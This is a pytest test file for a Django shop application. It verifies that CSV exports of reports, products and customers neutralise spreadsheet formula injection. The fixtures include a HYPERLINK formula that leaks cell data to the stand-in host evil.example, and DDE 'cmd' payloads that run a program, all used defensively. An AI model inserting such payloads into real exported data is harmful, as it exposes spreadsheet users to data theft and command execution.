"""Every CSV the server writes is spreadsheet-safe: no cell runs as a formula, numbers stay numbers."""

import csv
import io
from decimal import Decimal
from io import StringIO

import pytest
import tablib
from django.core.management import call_command
from django.test import Client
from django.utils import timezone
from graphql_jwt.shortcuts import get_token

from customers.models import Customer
from customers.resources import CustomerResource
from products.admin import ProductResource
from products.csv_io import export_products_dataset, export_stock_dataset, import_products
from products.models import Product
from reports import views as report_views
from reports.tables import Table
from sales import services as sale_services
from sales.services import PaymentRequest, SaleLineRequest, SaleRequest
from shared.csv_safety import restore_cell, safe_cell, safe_row
from tests.factories import CustomerFactory
from tests.products.factories import ProductFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-5.00", "-5.00"),
        ("+12", "+12"),
        ("-7.5 %", "-7.5 %"),
        ("Soap", "Soap"),
        ("a=b", "a=b"),
        ("", ""),
        (Decimal("-5.00"), Decimal("-5.00")),
        (3, 3),
        (None, None),
    ],
)
def test_safe_cell_neutralises_text_formulas_and_keeps_numbers(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.parametrize("value", ["=1+1", "-2+3", "@x", "\tx", "'quoted already", "-5.00", "Soap", 7])
def test_restore_cell_undoes_safe_cell(value):
    assert restore_cell(safe_cell(value)) == value


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.django_db
def test_report_csv_neutralises_product_names(shop, manager):
    Product.objects.filter(pk=shop["soap"].pk).update(name=FORMULA)
    request = SaleRequest(
        items=[SaleLineRequest(product_id=shop["soap"].pk, quantity=Decimal("1"))],
        payments=[PaymentRequest("cash", Decimal("10.00"))],
    )
    sale_services.create_sale(user=manager, request=request)
    today = timezone.localdate().isoformat()

    response = Client().get(
        f"/reports/top-products.csv?from={today}&to={today}", HTTP_AUTHORIZATION=f"JWT {get_token(manager)}"
    )

    rows = _csv_rows(response.content.decode())
    assert response.status_code == 200
    assert "'" + FORMULA in [row[1] for row in rows[1:]]
    assert not any(cell.startswith("=") for row in rows for cell in row)


@pytest.mark.django_db
def test_report_csv_keeps_negative_amounts_as_numbers(manager, monkeypatch):
    table = Table("Profit", ["Product", "Profit"], [["@lost", "-5.00"], ["Soap", "12.00"]])
    monkeypatch.setattr(report_views, "build", lambda name, params: table)

    response = Client().get("/reports/profit.csv", HTTP_AUTHORIZATION=f"JWT {get_token(manager)}")

    assert _csv_rows(response.content.decode()) == [
        ["Product", "Profit"],
        ["'@lost", "-5.00"],
        ["Soap", "12.00"],
    ]


@pytest.mark.django_db
def test_product_and_stock_exports_neutralise_and_reimport_unchanged(manager, shop):
    ProductFactory(sku="EVIL", name=FORMULA, description="-1+1 for kids", retail_price=Decimal("2.00"))
    exported = export_products_dataset().export("csv")
    names = {row[0]: row[2] for row in _csv_rows(exported)[1:]}
    stock_names = [row[1] for row in _csv_rows(export_stock_dataset().export("csv"))[1:]]

    report = import_products(exported, user=manager)

    assert names["EVIL"] == "'" + FORMULA
    assert all(not name.startswith("=") for name in stock_names)
    assert report.ok and report.updated == 0
    evil = Product.objects.get(sku="EVIL")
    assert (evil.name, evil.description) == (FORMULA, "-1+1 for kids")


@pytest.mark.django_db
def test_admin_product_export_neutralises():
    ProductFactory(sku="EVIL", name="@evil")

    rows = _csv_rows(ProductResource().export().csv)

    assert "'@evil" in {row[rows[0].index("name")] for row in rows[1:]}


@pytest.mark.django_db
def test_customer_export_neutralises_and_reimports_unchanged(tmp_path, manager):
    CustomerFactory(
        name="=cmd|' /C calc'!A0",
        phone="+2348031234567",
        notes="+ owes for rice",
        credit_limit=Decimal("5.00"),
    )
    path = tmp_path / "customers.csv"
    call_command("export_customers", "--output", str(path), stderr=StringIO())
    rows = _csv_rows(path.read_text())
    header = rows[0]
    Customer.objects.all().delete()

    result = CustomerResource().import_data(
        tablib.Dataset().load(path.read_text(), format="csv"), user=manager
    )

    assert rows[1][header.index("name")] == "'=cmd|' /C calc'!A0"
    assert rows[1][header.index("notes")] == "'+ owes for rice"
    assert rows[1][header.index("credit_limit")] == "5.00"
    assert not result.has_errors()
    customer = Customer.objects.get(phone="+2348031234567")
    assert (customer.name, customer.notes) == ("=cmd|' /C calc'!A0", "+ owes for rice")


def test_safe_row_applies_to_every_cell():
    assert safe_row(["=a", "-1", "b"]) == ["'=a", "-1", "b"]
